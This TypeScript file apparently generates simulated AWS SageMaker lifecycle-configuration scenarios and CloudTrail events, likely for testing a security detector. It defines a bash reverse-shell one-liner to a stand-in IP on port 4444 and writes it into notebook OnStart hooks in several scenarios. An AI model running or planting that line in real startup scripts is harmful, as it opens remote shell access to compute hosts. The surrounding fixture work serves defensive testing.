/** Lifecycle configurations of notebooks as the generator draws them, and what people write into them. */
import { hooks } from '../world/sagemaker/lifecycle-config-past.ts';
import { call, type Drawn } from './acts.ts';
import type { Draw } from './chance.ts';
import { type Act, MINUTE, type Move } from './scenario.ts';

const TYPE = 'AWS::SageMaker::NotebookInstanceLifecycleConfig';
const ANA = 'arn:aws:sts::111122223333:assumed-role/DataScientist/ana';
const EVE = 'arn:aws:sts::111122223333:assumed-role/Platform/eve';
const SHELL = '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n';
const script = (what: string): string => `#!/bin/bash\npip install ${what}\n`;

export function drawLifecycleConfig(draw: Draw, i: number): Drawn {
  const name = draw.often([
    [20, `${['Alpha', 'Beta', 'Gamma'][i] ?? 'Delta'}-Setup`],
    [1, 'mlwarden-Setup'],
  ]);
  const by = draw.of([ANA, EVE]);
  const ago = draw.of([20_000, 8 * MINUTE, 60 * MINUTE, 120 * 24 * 60 * MINUTE]);
  const wrote = draw.often<{ readonly OnCreate?: string | null; readonly OnStart?: string | null }>([
    [3, { OnStart: SHELL }],
    [2, { OnStart: script('polars') }],
    [1, { OnCreate: script('polars') }],
    [1, { OnStart: null }],
  ]);
  const first = draw.of([{ OnStart: script('pandas') }, { OnCreate: script('numpy'), OnStart: script('pandas') }]);
  const updates = draw.chance(0.8) ? [{ ago, by, ...wrote, ...(draw.chance(0.1) && { untold: true }) }] : [];
  const there = {
    lifecycleConfigs: [{ NotebookInstanceLifecycleConfigName: name, createdBy: EVE, age: ago + 60 * MINUTE, ...first, updates }],
  };
  const written = updates.length > 0 ? `written by ${by === ANA ? 'who may not' : 'who may'}` : 'as it was created';
  const moves = movesOf(name, draw.of([script('polars'), SHELL]));
  return { thing: { type: TYPE, name, says: `a lifecycle configuration ${name}, ${written}`, there }, moves, report: moves.length - 1 };
}

/** The last is the report of a source. */
function movesOf(NotebookInstanceLifecycleConfigName: string, his: string): (() => Omit<Move, 'at'>)[] {
  const named = { NotebookInstanceLifecycleConfigName };
  const act = (by: string, does: string, scripts: Parameters<typeof hooks>[0] = {}): Act => ({
    ...call(`sagemaker:${does}NotebookInstanceLifecycleConfig`, { ...named, ...hooks(scripts) }, 0),
    by,
  });
  const event = {
    version: '0',
    id: `written-${NotebookInstanceLifecycleConfigName}`,
    'detail-type': 'AWS API Call via CloudTrail',
    ...{ source: 'aws.sagemaker', account: '111122223333', region: 'eu-west-1', resources: [] },
    detail: {
      ...{ eventSource: 'sagemaker.amazonaws.com', eventName: 'UpdateNotebookInstanceLifecycleConfig' },
      requestParameters: { notebookInstanceLifecycleConfigName: NotebookInstanceLifecycleConfigName },
    },
  };
  const is = NotebookInstanceLifecycleConfigName;
  return [
    () => ({ says: `somebody who may not writes ${is}`, acts: [act(ANA, 'Update', { OnStart: his })] }),
    () => ({
      ...{ says: `somebody who may not writes ${is}, again and again`, every: 20 * MINUTE, times: 4 },
      acts: [act(ANA, 'Update', { OnStart: his })],
    }),
    () => ({ says: `somebody who may writes ${is}`, acts: [act(EVE, 'Update', { OnStart: script('duckdb') })] }),
    () => ({ says: `somebody who may leaves a reverse shell in ${is}`, acts: [act(EVE, 'Update', { OnStart: SHELL })] }),
    () => ({ says: `somebody who may not adds a hook to ${is}`, acts: [act(ANA, 'Update', { OnCreate: his })] }),
    () => ({ says: `somebody takes the hooks of ${is} away`, acts: [act(ANA, 'Update', { OnCreate: null, OnStart: null })] }),
    () => ({
      says: `somebody deletes ${is} and creates it again`,
      acts: [act(ANA, 'Delete'), act(ANA, 'Create', { OnStart: script('pandas') })],
    }),
    () => ({ says: `somebody deletes ${is}`, acts: [act(EVE, 'Delete')] }),
    () => ({ says: `CloudTrail tells of ${is}`, acts: [{ event }] }),
  ];
}
